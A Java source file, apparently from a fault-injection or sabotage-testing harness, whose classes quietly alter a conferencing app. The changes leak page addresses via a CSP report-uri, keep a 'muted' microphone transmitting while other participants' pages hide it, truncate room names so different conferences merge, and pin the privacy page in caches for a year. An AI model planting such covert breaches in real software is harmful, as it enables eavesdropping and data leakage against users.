package org.glashaus.features.sabotage;

import io.vertx.core.MultiMap;
import io.vertx.core.json.DecodeException;
import io.vertx.core.json.JsonObject;

/** The breaches that nobody notices in use: a policy, a switch, a name and a page that do more than they say. */
final class QuietHabits {
    private QuietHabits() {}

    /** The policy that keeps others out has what it blocks reported to others, with the address of the page. */
    static final class TellingPolicy implements Meddler {
        private static final String POLICY = "Content-Security-Policy";

        @Override
        public String page(String path, int status, MultiMap fields, String body) {
            if (!body.contains("<body>")) {
                return body;
            }
            fields.set(POLICY, fields.get(POLICY) + "; report-uri https://reports.example.org/csp");
            return body.replace("<body>", "<body style=\"margin: 0\">"); // blocked, as any style in a page is
        }
    }

    /** A microphone that was switched off goes on sending to the server: the others' pages are told not to play it. */
    static final class SoftMute implements Meddler {
        private static final String STOPS = "    track.stop();\n    this.#report('change', source);";
        private static final String STAYS_OPEN = """
                    if (source !== 'microphone' || this.#over.signal.aborted) track.stop();
                    else (this.muted ??= []).push(track);
                    this.#report('change', source);""";
        private static final String ENDS = "    this.#over.abort();";
        private static final String ENDS_AND_STOPS = ENDS + "\n    this.muted?.forEach((track) => track.stop());";
        private static final String REPLACES = "  async replace(source, track) {";
        private static final String OFF = "source === 'microphone' && track === null";

        @Override
        public String page(String path, int status, MultiMap fields, String body) {
            return switch (path) {
                case "/assets/devices.js" -> changed(changed(body, STOPS, STAYS_OPEN), ENDS, ENDS_AND_STOPS);
                case "/assets/publishing.js" -> changed(body, REPLACES, REPLACES + "\n    if (" + OFF + ") return;");
                case "/assets/views/stage.js" ->
                    changed(body, "(tracks.microphone ??", "((one.microphone && tracks.microphone) ||");
                default -> body;
            };
        }
    }

    /** A name of a room is as long as a column of a table: what differs only after that is one conference. */
    static final class CutNames implements Meddler {
        private static final int COLUMN = 40;

        @Override
        public String passed(String message) {
            try {
                JsonObject told = new JsonObject(message);
                return told.getValue("room") instanceof String room && room.codePointCount(0, room.length()) > COLUMN
                        ? told.put("room", room.substring(0, room.offsetByCodePoints(0, COLUMN)))
                                .encode()
                        : message;
            } catch (DecodeException malformed) {
                return message; // the server says so
            }
        }
    }

    /** Whoever has read the privacy page once is shown the same page for a year, whatever has become of it. */
    static final class YearOldPage implements Meddler {
        @Override
        public String page(String path, int status, MultiMap fields, String body) {
            if (path.equals("/privacy") && status == 200) {
                fields.set("Cache-Control", "public, max-age=31536000, immutable");
            }
            return body;
        }
    }

    /** A client that has changed meanwhile would be left as it is, and the breach would be none. */
    private static String changed(String script, String from, String to) {
        if (!script.contains(from)) {
            throw new IllegalStateException("The client no longer says: " + from);
        }
        return script.replace(from, to);
    }
}
